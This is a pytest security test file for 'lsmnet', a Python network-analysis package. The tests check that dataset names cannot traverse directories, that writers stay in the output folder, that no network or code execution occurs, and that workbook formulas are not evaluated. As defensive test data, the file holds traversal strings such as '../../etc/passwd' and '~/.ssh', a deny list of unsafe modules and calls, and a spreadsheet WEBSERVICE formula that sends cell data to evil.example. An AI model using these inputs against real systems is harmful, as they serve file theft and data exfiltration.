"""Safe paths and the other guarantees of SECURITY.md that a test can check.

- Dataset names cannot traverse directories (``load_dataset("../x")``, ``lsmnet example
  ../../x``): only the names of bundled datasets are accepted.
- Writers put files only where the user said: every file created while writing (CSV tables,
  Excel, exports, the risk CSV, the report) is inside the chosen folder, even when ids and
  names look like paths (``../../evil``). The working directory is a fresh folder during these
  tests, so a stray relative write would be seen too.
- No network access: loading, analysing, exporting and reporting work with sockets disabled.
- No code execution from data: lsmnet's source never calls pickle, eval/exec, a shell or a
  network library (checked statically), and formulas in workbooks are never evaluated.
"""

from __future__ import annotations

import ast
import os
import re
import socket
from pathlib import Path

import pandas as pd
import pytest

import lsmnet
from lsmnet.cli import main
from lsmnet.datasets import dataset_folder, load_dataset
from lsmnet.exceptions import InvalidParameterError

SRC = Path(lsmnet.__file__).resolve().parent

TRAVERSALS = [
    "../x",
    "..",
    "../../etc/passwd",
    "/etc/passwd",
    "knoke/../knoke",
    "knoke/",
    "./knoke",
    "..\\..\\windows",
    "knoke\\..\\davis",
    " knoke",
    "knoke\n",
    "~/.ssh",
    "%2e%2e/x",
    "",
    "knoke\x00",
]


@pytest.mark.parametrize("name", TRAVERSALS)
def test_load_dataset_refuses_paths(name):
    with pytest.raises(InvalidParameterError, match="'name' parameter of load_dataset"):
        load_dataset(name)
    with pytest.raises(InvalidParameterError, match="'name' parameter of load_dataset"):
        dataset_folder(name)


@pytest.mark.parametrize("name", [Path("knoke"), None, 3, b"knoke", ["knoke"]])
def test_load_dataset_refuses_non_strings(name):
    with pytest.raises(InvalidParameterError, match="must be a dataset name"):
        load_dataset(name)


def test_every_bundled_dataset_lives_inside_the_package():
    root = (SRC / "datasets" / "data").resolve()
    for name in lsmnet.datasets.list_datasets()["name"]:
        folder = dataset_folder(name).resolve()
        assert folder.parent == root and folder.is_dir()


def _files(root: Path) -> set[Path]:
    return {p for p in root.rglob("*") if p.is_file()}


@pytest.fixture
def sandbox(tmp_path, monkeypatch):
    """A folder holding the output folder, a working directory and nothing else."""
    work = tmp_path / "cwd"
    work.mkdir()
    monkeypatch.chdir(work)
    return tmp_path


def _assert_only_inside(root: Path, before: set[Path], chosen: Path) -> set[Path]:
    new = _files(root) - before
    outside = sorted(str(p) for p in new if chosen.resolve() not in p.resolve().parents)
    assert not outside, f"written outside {chosen}: {outside}"
    return new


@pytest.mark.parametrize("name", ["../../escaped", "/tmp/escaped", "..", "knoke/../../x"])
def test_cli_example_refuses_traversal(sandbox, capsys, name):
    before = _files(sandbox)
    assert main(["example", name, "--out", str(sandbox / "out")]) == 1
    assert "'name' parameter of load_dataset" in capsys.readouterr().err
    assert _files(sandbox) == before
    assert not (sandbox / "out").exists()


def test_cli_example_writes_only_into_out(sandbox):
    before = _files(sandbox)
    assert main(["example", "knoke", "--out", str(sandbox / "out")]) == 0
    new = _assert_only_inside(sandbox, before, sandbox / "out")
    assert {p.name for p in new} >= {"organizations.csv", "ties.csv", "SOURCE.md"}


def path_like_data() -> lsmnet.NetworkData:
    """Ids, names and layers that look like paths outside the output folder."""
    ids = ["../../evil", "/tmp/evil", "..\\..\\evil", "C:\\evil", "~/evil", "a/../../b"]
    return lsmnet.from_frames(
        organizations=pd.DataFrame({"org_id": ids, "name": [f"../{i}" for i in ids]}),
        coalitions=pd.DataFrame({"coalition_id": ["../../k"], "name": ["/etc/passwd"]}),
        memberships=pd.DataFrame({"org_id": ids, "coalition_id": "../../k"}),
        ties=pd.DataFrame(
            {
                "source": ids[:-1],
                "target": ids[1:],
                "layer": ["../media", "advocacy", "network", "../media", "advocacy"],
            }
        ),
        layers=["../media"],
    )


WRITERS = {
    "to_csv": lambda d, out: d.to_csv(out),
    "to_excel": lambda d, out: d.to_excel(out / "data.xlsx"),
    "graphml": lambda d, out: lsmnet.write_graphml(lsmnet.partnership_graph(d), out / "g.graphml"),
    "gexf": lambda d, out: lsmnet.write_gexf(lsmnet.membership_graph(d), out / "g.gexf"),
    "kumu_json": lambda d, out: lsmnet.write_kumu(d, out / "map.json"),
    "kumu_xlsx": lambda d, out: lsmnet.write_kumu(d, out / "map.xlsx"),
}


@pytest.mark.parametrize("writer", list(WRITERS))
def test_writers_stay_in_the_chosen_folder(sandbox, writer):
    data = path_like_data()
    out = sandbox / "out"
    out.mkdir()
    before = _files(sandbox)
    WRITERS[writer](data, out)
    assert _assert_only_inside(sandbox, before, out)


def test_risk_csv_stays_in_the_chosen_folder(sandbox):
    from lsmnet.cli.flags import write_csv

    out = sandbox / "out"
    out.mkdir()
    before = _files(sandbox)
    write_csv(lsmnet.risk_flags(path_like_data()), out / "flags.csv")
    assert _assert_only_inside(sandbox, before, out) == {out / "flags.csv"}


@pytest.mark.slow
def test_report_stays_in_the_chosen_folder(sandbox):
    data = path_like_data()
    data.to_csv(sandbox / "in")
    before = _files(sandbox)
    out = sandbox / "out"
    assert main(["report", str(sandbox / "in"), "--out", str(out)]) == 0
    new = _assert_only_inside(sandbox, before, out)
    assert {p.name for p in new} == {"report.html", "report.xlsx"}


# -------------------------------------------------------------------------- no network
@pytest.fixture
def no_network(monkeypatch):
    def refuse(*args, **kwargs):
        raise AssertionError(f"network access attempted: {args!r}")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket.socket, "connect_ex", refuse)
    monkeypatch.setattr(socket, "create_connection", refuse)
    monkeypatch.setattr(socket, "getaddrinfo", refuse)


def test_no_network_when_loading_analysing_and_exporting(no_network, sandbox):
    data = load_dataset("knoke")
    data.to_csv(sandbox / "csv")
    data = lsmnet.read(sandbox / "csv")
    data.to_excel(sandbox / "k.xlsx")
    lsmnet.read(sandbox / "k.xlsx")
    G = lsmnet.partnership_graph(data)
    lsmnet.centrality_table(G)
    lsmnet.write_graphml(G, sandbox / "k.graphml")
    lsmnet.risk_flags(data)


@pytest.mark.slow
def test_no_network_when_reporting(no_network, sandbox):
    rep = lsmnet.report(load_dataset("indonesia_demo"), coalition="C01")
    html = rep.html()
    rep.to_excel(sandbox / "r.xlsx")
    # self-contained: the browser fetches nothing either (links to sources are only links)
    # src attributes of the page's elements; inline scripts (the vendored map library) are
    # code, not markup, and the Content-Security-Policy forbids them any connection
    markup = re.sub(r"<script\b[^>]*>.*?</script>", "", html, flags=re.S)
    assert re.search(r"default-src (&#39;|')none", html)
    sources = re.findall(r"""\bsrc\s*=\s*["']?([^"'\s>]+)""", markup)
    assert sources and all(s.startswith("data:") for s in sources), sources[:3]
    assert not re.search(r"url\(\s*['\"]?(https?:)?//|@import|<link[^>]+href=\S*//", html)


# --------------------------------------------------------------------- no code from data
FORBIDDEN_CALLS = {
    ("pickle", "load"),
    ("pickle", "loads"),
    ("pd", "read_pickle"),
    ("pandas", "read_pickle"),
    ("joblib", "load"),
    ("yaml", "load"),
    ("os", "system"),
    ("os", "popen"),
    ("marshal", "loads"),
}
FORBIDDEN_NAMES = {"eval", "exec", "compile", "__import__"}
FORBIDDEN_MODULES = {
    "pickle",
    "dill",
    "cloudpickle",
    "shelve",
    "marshal",
    "subprocess",
    "socket",
    "urllib",
    "http",
    "requests",
    "ftplib",
}


def _calls_and_imports(tree):
    for node in ast.walk(tree):
        if isinstance(node, ast.Import):
            for alias in node.names:
                yield "import", alias.name.split(".")[0]
        elif isinstance(node, ast.ImportFrom) and node.module and node.level == 0:
            yield "import", node.module.split(".")[0]
        elif isinstance(node, ast.Call):
            func = node.func
            if isinstance(func, ast.Name):
                yield "call", func.id
            elif isinstance(func, ast.Attribute) and isinstance(func.value, ast.Name):
                yield "call", (func.value.id, func.attr)
            if isinstance(func, ast.Attribute) and func.attr == "read_pickle":
                yield "call", ("pd", "read_pickle")


def test_source_never_unpickles_evaluates_or_opens_connections():
    found = []
    for path in sorted(SRC.rglob("*.py")):
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for kind, what in _calls_and_imports(tree):
            bad = (
                (kind == "import" and what in FORBIDDEN_MODULES)
                or (kind == "call" and what in FORBIDDEN_NAMES)
                or (kind == "call" and what in FORBIDDEN_CALLS)
            )
            if bad:
                found.append(f"{path.relative_to(SRC)}: {kind} {what}")
    assert not found, found


def test_static_check_can_fail():
    tree = ast.parse("import pickle\nx = eval('1')\npd.read_pickle('f')\n")
    seen = set(_calls_and_imports(tree))
    assert ("import", "pickle") in seen and ("call", "eval") in seen
    assert ("call", ("pd", "read_pickle")) in seen


def test_workbook_formulas_are_never_evaluated(sandbox, no_network):
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    sheet.title = "organizations"
    sheet.append(["org_id", "name", "founded"])
    formula = '=WEBSERVICE("http://evil.example/?"&A2)'
    sheet.append(["a", formula, "=1990+1"])
    book.save(sandbox / "f.xlsx")
    with pytest.raises(lsmnet.SchemaError, match="founded") as info:
        lsmnet.read(sandbox / "f.xlsx")
    # a formula without a saved value is read as its text and reported, never calculated
    assert "'=1990+1'" in str(info.value) and "1991" not in str(info.value)
    data = lsmnet.read(sandbox / "f.xlsx", errors="collect")
    assert len(data.organizations) == 0 and data.set_aside["value"].tolist() == ["=1990+1"]
    book["organizations"]["C2"] = None
    book.save(sandbox / "f.xlsx")
    assert lsmnet.read(sandbox / "f.xlsx").organizations["name"].tolist() == [formula]


@pytest.mark.skipif(not hasattr(os, "symlink"), reason="needs symbolic links")
def test_dataset_folder_ignores_a_symlink_named_like_a_dataset(sandbox):
    # names are looked up in the registry, never on disk: a symlink in the working
    # directory called like a dataset changes nothing
    os.symlink("/", sandbox / "cwd" / "knoke")
    assert dataset_folder("knoke").resolve().is_relative_to(SRC.resolve())
